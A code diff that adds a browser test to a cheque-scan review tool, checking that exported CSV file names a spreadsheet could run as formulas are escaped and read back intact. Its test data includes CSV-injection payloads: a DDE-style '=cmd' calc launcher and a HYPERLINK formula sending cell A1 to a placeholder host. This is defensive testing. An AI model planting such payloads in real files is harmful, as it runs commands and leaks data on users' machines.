@@ -243,3 +243,33 @@ def test_a_page_of_every_read_can_show_the_x937_items_whose_micr_amount_is_anoth
     page.select_option("#filter", "")
     assert page.locator(".item:visible").count() == 3
     page.close()
+
+
+def test_an_exported_name_a_spreadsheet_would_run_as_a_formula_is_escaped_and_read_back(browser, tmp_path):
+    """File names are untrusted: exported as they were, ``=HYPERLINK(...)`` ran as a formula where a
+    reviewer opened corrections.csv in a spreadsheet (CSV injection). Such a cell now starts with ``'``
+    (as OWASP advises), and load_corrections gives back the names as they were, for finetune."""
+    scans = tmp_path / "scans"
+    scans.mkdir()
+    names = ["=cmd|'-c calc'!A0.png", '=HYPERLINK("x.test?"&A1,"ok").png', "+1.png", "@sum.png", "'quoted.png", "-"]
+    box = dict(field_x=40, field_y=60, field_w=440, field_h=100)
+    rows = []
+    for name in names:
+        field_scan(scans / name, "12")
+        rows.append(dict(source=name, page=1, status="ok", digits="12", text="12", confidence=0.3,
+                         needs_review="true", review_reasons="low_confidence", **box))
+    html = write_review_page(pd.DataFrame(rows), tmp_path / "review", image_root=scans)
+    context = browser.new_context(accept_downloads=True)
+    page = context.new_page()
+    page.goto(html.as_uri())
+    page.wait_for_load_state("load")
+    for _ in names:
+        page.keyboard.press("Enter")  # each read accepted as it is
+    with page.expect_download() as info:
+        page.click("#export")
+    saved = tmp_path / "corrections.csv"
+    info.value.save_as(saved)
+    cells = pd.read_csv(saved, dtype=str, keep_default_na=False)["source"].tolist()
+    assert all(c.startswith("'") for c in cells), cells  # no cell begins with = + - @ (or the escape itself)
+    assert sorted(load_corrections(saved)["source"]) == sorted(names)
+    context.close()
